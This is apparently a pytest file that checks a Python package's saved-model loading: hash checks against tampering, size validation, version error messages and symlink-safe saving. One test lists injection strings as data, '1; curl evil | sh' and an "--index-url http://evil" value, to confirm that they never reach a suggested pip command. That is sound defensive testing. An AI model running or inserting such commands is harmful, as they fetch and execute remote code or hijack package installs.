"""Saved models: checked by hash before anything is made of them; which version reads another format is told."""

import json
import shutil
from importlib.metadata import version

import numpy as np
import pytest
from safetensors.numpy import save_file
from tests import kept_models
from tests.models.conftest import make_section

from histoflow import models
from histoflow._errors import ModelFormatError, OutputError, ReadError
from histoflow.models.storage import FORMAT, HASHES, MODEL_JSON, WEIGHTS, sealed

KEPT = sorted(path.parent for path in kept_models.FOLDER.glob(f"*/*/{MODEL_JSON}"))


@pytest.fixture(scope="module")
def saved(tmp_path_factory):
    folder = tmp_path_factory.mktemp("saved") / "model"
    models.RidgeProbe().fit([make_section(f"S{i}", seed=i) for i in range(3)], panel=["G0", "G1"]).save(folder)
    return folder


@pytest.fixture
def model(saved, tmp_path):
    return shutil.copytree(saved, tmp_path / "model")


def described(folder):
    return json.loads((folder / MODEL_JSON).read_text())


def rewrite(folder, **changes):
    (folder / MODEL_JSON).write_text(json.dumps(described(folder) | changes))


def test_what_was_saved_is_loaded(model):
    assert models.load(model).panel_.genes == ("G0", "G1")


@pytest.mark.parametrize("place", [0, 9, -1])
def test_weights_with_one_other_bit_are_refused(model, place):
    content = bytearray((model / WEIGHTS).read_bytes())
    content[place] ^= 1
    (model / WEIGHTS).write_bytes(content)
    with pytest.raises(
        ModelFormatError, match=r"weights\.safetensors is damaged, or changed since the model was saved"
    ):
        models.load(model)


def test_weights_of_another_model_are_refused(model):
    save_file({"coef": np.zeros((3, 2), np.float32)}, model / WEIGHTS)
    with pytest.raises(ModelFormatError, match="SHA-256 differs"):
        models.load(model)


@pytest.mark.parametrize("change", [{"pitch_um": 1.0}, {"options": {}}, {"panel": {"genes": ["X"], "rule": "given"}}])
def test_a_description_that_was_changed_is_refused(model, change):
    rewrite(model, **change)
    with pytest.raises(ModelFormatError, match=r"model\.json is damaged, or changed"):
        models.load(model)


@pytest.mark.parametrize("hashes", [None, [], {}, {WEIGHTS: "0"}])
def test_a_description_without_hashes_is_refused(model, hashes):
    rewrite(model, **{HASHES: hashes})
    with pytest.raises(ModelFormatError, match=r"SHA-256 differs|has no sha256"):
        models.load(model)


def test_a_change_with_hashes_that_fit_still_has_to_make_sense(model):
    told = sealed(described(model) | {"options": {"alpha": []}}, described(model)[HASHES][WEIGHTS])
    (model / MODEL_JSON).write_text(json.dumps(told))
    with pytest.raises(ModelFormatError, match="do not fit together"):
        models.load(model)


@pytest.mark.parametrize(
    ("estimator", "part", "size", "value"),
    [
        ("stflow", "network", "n_layers", 10**20),
        ("stflow", "network", "n_layers", 3),
        ("stflow", "network", "hidden_dim", 1 << 20),
        ("stflow", "training", "n_members", 10**20),
        ("istar", None, "hidden_dim", 1 << 30),
    ],
)
def test_sizes_that_are_not_those_of_the_weights_are_refused_before_room_is_made_for_them(
    tmp_path, estimator, part, size, value
):
    kept = next(folder for folder in KEPT if folder.name == estimator)
    told = described(shutil.copytree(kept, tmp_path / "model"))
    (told["options"] if part is None else told["options"][part])[size] = value
    (tmp_path / "model" / MODEL_JSON).write_text(json.dumps(sealed(told, told[HASHES][WEIGHTS])))
    with pytest.raises(ModelFormatError, match="do not fit together"):
        models.load(tmp_path / "model")


def test_a_newer_format_says_which_version_reads_it(model):
    rewrite(model, format=FORMAT + 1, versions={"histoflow": "3.1.4"})
    with pytest.raises(
        ModelFormatError, match=rf"reads format {FORMAT}: histoflow 3\.1\.4 wrote it and reads it; pip ins"
    ):
        models.load(model)


def test_an_estimator_of_a_newer_version_says_which_version_reads_it(model):
    rewrite(model, estimator="oracle", versions={"histoflow": "3.1.4rc1"})
    with pytest.raises(ModelFormatError, match=r"'oracle'.*pip install 'histoflow==3\.1\.4rc1'"):
        models.load(model)


@pytest.mark.parametrize("writer", [None, 7, "", "1; curl evil | sh", "9" * 50, "1.0' --index-url http://evil"])
def test_what_is_no_version_is_not_repeated_as_a_command(model, writer):
    rewrite(model, format=99, versions={"histoflow": writer})
    with pytest.raises(ModelFormatError, match="it does not tell which version wrote it") as caught:
        models.load(model)
    assert "pip" not in str(caught.value)


@pytest.mark.parametrize("text", ["[]", "1", '"x"', "{}", "null", "[" * 100_000])
def test_what_describes_no_model_is_refused(model, text):
    (model / MODEL_JSON).write_text(text)
    with pytest.raises((ModelFormatError, ReadError), match=r"model\.json"):
        models.load(model)


def test_missing_weights_are_named(model):
    (model / WEIGHTS).unlink()
    with pytest.raises(ReadError, match="has no weights"):
        models.load(model)


def test_a_model_saved_onto_a_link_does_not_touch_what_it_leads_to(model, tmp_path):
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    (elsewhere / "precious").write_text("kept")
    (tmp_path / "link").symlink_to(elsewhere)
    models.load(model).save(tmp_path / "link")
    assert [path.name for path in elsewhere.iterdir()] == ["precious"]
    assert not (tmp_path / "link").is_symlink()
    assert models.load(tmp_path / "link").panel_ is not None


def test_a_model_is_not_saved_over_a_file(model, tmp_path):
    (tmp_path / "file").write_text("kept")
    with pytest.raises(OutputError):
        models.load(model).save(tmp_path / "file")
    assert (tmp_path / "file").read_text() == "kept"


# what earlier releases saved


def test_every_estimator_of_this_release_is_kept():
    kept = {path.name for path in KEPT if path.parent.name == version("histoflow")}
    assert kept == set(kept_models.estimators())


@pytest.mark.parametrize("folder", KEPT, ids=lambda path: f"{path.parent.name}-{path.name}")
def test_models_that_releases_saved_load_and_predict_what_they_predicted(folder):
    wanted = json.loads((folder / kept_models.PREDICTED).read_text())
    found = kept_models.predicted(models.load(folder))
    assert found.keys() == wanted.keys()
    for name, values in wanted.items():
        np.testing.assert_allclose(found[name], values, rtol=1e-4, atol=1e-4, err_msg=name)
